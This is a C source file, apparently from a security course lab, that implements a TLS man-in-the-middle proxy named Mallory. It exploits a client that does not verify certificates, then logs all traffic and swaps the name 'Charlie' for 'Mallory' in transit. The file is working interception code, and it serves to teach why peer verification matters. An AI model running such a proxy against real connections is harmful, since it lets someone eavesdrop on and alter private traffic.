/* Lab 2, Mallory: stands between client and server, reads all, changes a word.
 * New: nothing is broken here. The client talks TLS, but does not ask whom to.
 */
#include "net.h"
#include "tlserr.h"

#include <err.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* What serve() has to know: the server that the client meant. */
struct plan {
    SSL_CTX *victim, *server;
    const char *host, *port;
};

static SSL_CTX *context(const SSL_METHOD *method)
{
    SSL_CTX *ctx = SSL_CTX_new(method);

    if (ctx == NULL || SSL_CTX_set_min_proto_version(ctx, TLS1_2_VERSION) != 1)
        tls_err(1, "SSL_CTX_new");
    return ctx;
}

/* TLS over a socket that is there already; NULL if it cannot be had. */
static SSL *start(SSL_CTX *ctx, int fd, int (*handshake)(SSL *))
{
    SSL *ssl = SSL_new(ctx);

    if (ssl != NULL && SSL_set_fd(ssl, fd) == 1 && handshake(ssl) == 1)
        return ssl;
    tls_warn("handshake");
    SSL_free(ssl);
    return NULL;
}

/* Pass on what one side says: print it, and change it if that serves us. */
static int pass(SSL *from, SSL *to, const char *arrow)
{
    static const char theirs[] = "Charlie", mine[] = "Mallory";
    char buf[16384];
    size_t n, len = sizeof(mine) - 1;

    if (SSL_read_ex(from, buf, sizeof(buf), &n) != 1)
        return 0;
    printf("%s %.*s", arrow, (int)n, buf);
    for (size_t i = 0; i + len <= n; i++)
        if (memcmp(buf + i, theirs, len) == 0)
            memcpy(buf + i, mine, len);
    fflush(stdout);
    return SSL_write_ex(to, buf, n, &n);
}

static void serve(int fd, const char *peer, void *arg)
{
    struct plan *plan = arg;
    SSL *server, *victim = start(plan->victim, fd, SSL_accept);
    int out;

    if (victim == NULL)
        return;
    warnx("%s: believes that I am %s", peer, plan->host);
    out = tcp_connect(plan->host, plan->port); /* or that was all */
    server = start(plan->server, out, SSL_connect);
    /* An echo takes turns: a question, an answer. So do we. */
    while (server != NULL && pass(victim, server, ">") &&
           pass(server, victim, "<"))
        continue;
    if (server != NULL)
        SSL_shutdown(server);
    SSL_shutdown(victim);
    SSL_free(server);
    SSL_free(victim);
    close(out);
}

int main(int argc, char *argv[])
{
    if (argc != 7) {
        fprintf(stderr, "usage: mallory HOST PORT CERT KEY SERVER-HOST "
                        "SERVER-PORT\n");
        return 2;
    }
    signal(SIGPIPE, SIG_IGN); /* a vanished peer is an error, not our death */
    struct plan plan = { context(TLS_server_method()),
                         context(TLS_client_method()), argv[5], argv[6] };
    if (SSL_CTX_use_certificate_chain_file(plan.victim, argv[3]) != 1)
        tls_err(1, "certificate %s", argv[3]);
    SSL_CTX_set_default_passwd_cb_userdata(plan.victim, "");
    if (SSL_CTX_use_PrivateKey_file(plan.victim, argv[4], SSL_FILETYPE_PEM) !=
        1)
        tls_err(1, "key %s", argv[4]);
    tcp_serve(argv[1], argv[2], serve, &plan);
    quick_exit(0); /* not exit(): threads may still need what it frees */
}
